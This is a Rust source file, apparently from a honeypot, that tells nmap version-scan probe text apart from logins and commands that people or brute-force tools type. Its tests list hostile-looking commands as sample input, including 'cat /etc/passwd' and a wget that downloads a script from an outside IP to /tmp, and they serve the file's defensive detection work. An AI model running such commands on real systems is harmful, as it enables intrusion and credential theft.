//! Text a scanner sent that a line-oriented service would take for a
//! login name or a command.
//!
//! `nmap -sV` tries its probes on every port whose banner it does not
//! recognise: the NULL probe (say nothing, wait ~5 s), then `GET /
//! HTTP/1.0`, `OPTIONS / RTSP/1.0`, binary hellos (TLS, SMB, RPC, X11…).
//! A telnet login prompt would take each line for a user name, redis for an
//! inline command. Counted as credentials or commands, one version scan
//! would look like a brute force or a shell session, so the services record
//! such text as a `scan` event (`event_type` `probe`) and intel counts it
//! as what it is: a probe without a protocol (older stored events that
//! still carry it as a login or command are judged by the same test).

/// True when `text` is what a probe sends rather than what a person or a
/// brute-force tool types: empty, binary (control characters, replacement
/// characters from lossy decoding, or the `\xNN` escapes services write
/// for bytes that are not text), a request line of another protocol
/// (`GET / HTTP/1.0`, `OPTIONS / RTSP/1.0`, `OPTIONS sip:… SIP/2.0`) or
/// one of its header lines (`Via: SIP/2.0/TCP nm`, `Content-Length: 0`).
pub fn is_probe_text(text: &str) -> bool {
    let t = text.trim();
    if t.is_empty() {
        return true;
    }
    if t.chars()
        .any(|c| (c.is_control() && c != '\t') || c == char::REPLACEMENT_CHARACTER)
    {
        return true;
    }
    has_hex_escape(t) || is_foreign_request_line(t) || is_header_line(t)
}

fn has_hex_escape(t: &str) -> bool {
    t.as_bytes().windows(4).any(|w| {
        w[0] == b'\\' && w[1] == b'x' && w[2].is_ascii_hexdigit() && w[3].is_ascii_hexdigit()
    })
}

/// `Name: value` with an RFC 9110 token name that starts upper-case, as
/// HTTP, SIP and RTSP headers do (shell commands and login names do not).
fn is_header_line(t: &str) -> bool {
    let Some((name, _)) = t.split_once(": ") else {
        return false;
    };
    name.starts_with(|c: char| c.is_ascii_uppercase())
        && name.bytes().all(|b| b.is_ascii_alphanumeric() || b == b'-')
}

fn is_foreign_request_line(t: &str) -> bool {
    let mut words = t.split_whitespace();
    let (Some(method), Some(_target), Some(version), None) =
        (words.next(), words.next(), words.next(), words.next())
    else {
        return false;
    };
    let method_like = (3..=10).contains(&method.len())
        && method.bytes().all(|b| b.is_ascii_uppercase() || b == b'-');
    let version_like = ["HTTP/", "RTSP/", "SIP/"]
        .iter()
        .any(|p| version.starts_with(p));
    method_like && version_like
}

#[cfg(test)]
mod tests {
    use super::is_probe_text;

    #[test]
    fn nmap_probe_lines_are_probes() {
        for probe in [
            "",
            "   ",
            "GET / HTTP/1.0",
            "OPTIONS / HTTP/1.0",
            "OPTIONS / RTSP/1.0",
            "OPTIONS sip:nm SIP/2.0",
            "\u{16}\u{3}\u{0}\u{0}S\u{1}",
            "\u{fffd}\u{fffd}SMBr",
            // What nmap -sV left as redis commands on a decky.
            "GET /nice%20ports%2C/Tri%6Eity.txt%2ebak HTTP/1.0",
            "Via: SIP/2.0/TCP nm;branch=foo",
            "Content-Length: 0",
            "CSeq: 42 OPTIONS",
            "Call-ID: 50000",
            "\\x01default",
            "\\x03\\x00\\x00*%\\xe0\\x00\\x00\\x00\\x00\\x00Cookie: mstshash=nmap",
        ] {
            assert!(is_probe_text(probe), "{probe:?}");
        }
    }

    #[test]
    fn what_people_and_brute_forcers_type_is_not() {
        for typed in [
            "root",
            "admin",
            "ubuntu",
            "uname -a",
            "cat /etc/passwd",
            "GET mykey",
            "wget http://198.51.100.7/x.sh -O /tmp/x",
            "EHLO mail.example.org",
            "SET a b",
            "CONFIG GET dir",
            "echo hello: world",
            "HELP",
        ] {
            assert!(!is_probe_text(typed), "{typed:?}");
        }
    }
}
